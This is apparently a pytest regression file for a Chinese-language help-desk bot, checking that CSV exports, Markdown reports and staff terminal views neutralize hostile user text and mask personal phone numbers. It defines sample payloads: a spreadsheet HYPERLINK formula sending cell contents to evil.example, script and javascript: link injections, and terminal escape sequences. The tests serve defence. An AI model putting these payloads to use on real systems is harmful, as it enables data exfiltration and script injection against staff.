"""Fault injection: the attacks and accidents issue 12 found, replayed so they stay fixed, on both backends.

One test (or a few) per defect, named after its number in the issue; so far 4 (CSV formula injection),
5 (HTML and terminal escapes reaching staff) and 7 (personal data in staff views).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from bot.channels.telegram_staff import card_text
from bot.core import Assistant
from bot.digest import export_csv
from bot.kb import KnowledgeBase
from bot.matcher import Matcher
from bot.models import Address, Incoming
from bot.neutralize import FORMULA_START, csv_cell, csv_uncell, markdown, terminal
from bot.reports import IsoWeek, build_report, render
from bot.staff import Staff, StaffService
from bot.store import SqlStore
from bot.store.queue import TicketQueue
from tests.conftest import BOT_TODAY, Clock
from tests.test_tickets_cli import desk

ESCALATING = "我们厂的锅炉年检证书丢了，补办要找哪个窗口"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")锅炉年检证书补办'
SCRIPT = "<script>alert(1)</script>锅炉年检证书丢了<img src=x onerror=alert(1)>[点我](javascript:alert(1))"
ESCAPES = "\x1b[2J\x1b[31m锅炉年检证书丢了\x1b]0;owned\x07补办\r找谁"
PERSONAL = "我叫张三，电话13812345678，锅炉年检证书丢了补办找谁"


def ticket_of(assistant: Assistant, user: str, question: str) -> str:
    """Escalate `question` as a console user; the ticket number they are told."""
    address = Address("console", f"chat-{user}")
    replies = assistant.handle(Incoming(address, user, question, message_id=f"{user}-q"))
    if not any(r.ticket_number for r in replies):  # offered suggestions first
        replies = assistant.handle(Incoming(address, user, "转人工", message_id=f"{user}-h"))
    number = next((r.ticket_number for r in replies if r.ticket_number), None)
    assert number, [r.text for r in replies]
    return number


def staff_service(store: SqlStore, clock: Clock, kb: KnowledgeBase) -> StaffService:
    return StaffService(TicketQueue(store), clock=clock, kb=kb)


# ---- 4. CSV formula injection ----------------------------------------------------------------------------


def test_4_no_csv_cell_starts_a_formula(
    assistant: Assistant, store: SqlStore, clock: Clock, kb: KnowledgeBase, matcher: Matcher
) -> None:
    """The tickets export and the weekly report CSV, both made for Excel."""
    ticket_of(assistant, "u1", HYPERLINK)
    out = io.StringIO()
    export_csv(staff_service(store, clock, kb).export(Staff("cli", "张三")), out, clock())
    report = build_report(store.engine, kb, matcher, IsoWeek.parse("2020-W12"), BOT_TODAY, clock())
    weekly = render(report, "csv").data.decode("utf-8-sig")
    for text in (out.getvalue(), weekly):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_START)]
        assert "'" + HYPERLINK in cells
    assert [csv_cell(c + "1") for c in FORMULA_START] == ["'" + c + "1" for c in FORMULA_START]
    assert csv_uncell(str(csv_cell("=1+1"))) == "=1+1" and csv_cell(-3) == -3


# ---- 5. HTML and terminal escapes reaching staff ---------------------------------------------------------


def test_5_user_text_is_inert_in_the_markdown_report(
    assistant: Assistant, store: SqlStore, clock: Clock, kb: KnowledgeBase, matcher: Matcher
) -> None:
    ticket_of(assistant, "u1", SCRIPT)
    report = build_report(store.engine, kb, matcher, IsoWeek.parse("2020-W12"), BOT_TODAY, clock())
    md = render(report, "md").data.decode("utf-8-sig")
    assert "锅炉年检证书丢了" in md
    assert "<script" not in md and "<img" not in md and "[点我](javascript" not in md
    assert markdown("<b>a_b</b>") == r"&lt;b&gt;a\_b&lt;/b&gt;"


def test_5_terminal_escapes_are_not_printed_to_staff(assistant: Assistant, db_url: str, tmp_path: Path) -> None:
    number = ticket_of(assistant, "u1", ESCAPES)
    listing = desk(db_url, "list", cwd=tmp_path)
    shown = desk(db_url, "show", number, cwd=tmp_path)
    assert listing.returncode == shown.returncode == 0
    for out in (listing.stdout, shown.stdout):
        assert "锅炉年检证书丢了" in out and "\x1b" not in out and "\x07" not in out and "\r" not in out
    assert terminal("a\x1b[31mb\tc\n\u202ed") == "a[31mb\tc\nd"


# ---- 7. personal data in staff views ---------------------------------------------------------------------


def test_7_staff_views_mask_personal_data_and_the_handler_reveal_is_recorded(
    assistant: Assistant, store: SqlStore, clock: Clock, kb: KnowledgeBase
) -> None:
    number = ticket_of(assistant, "u1", PERSONAL)
    svc = staff_service(store, clock, kb)
    zhang, li = Staff("cli", "张三"), Staff("cli", "李四")
    (listed,) = svc.list_queue(zhang)
    exported = io.StringIO()
    export_csv(svc.export(zhang), exported, clock())
    card = card_text(TicketQueue(store).get(number), kb, clock())  # type: ignore[arg-type]
    for view in (listed.question, exported.getvalue(), card, svc.show(zhang, number).ticket.question):
        assert "13812345678" not in view and "张三" not in view and "138****5678" in view
    svc.claim(zhang, number)
    assert "13812345678" not in svc.show(li, number).ticket.question, "only the handler sees it whole"
    assert "13812345678" in svc.show(zhang, number).ticket.question
    events = TicketQueue(store).events(listed.id)
    assert [(e.actor, e.action) for e in events][-1] == ("张三", "查看个人信息")
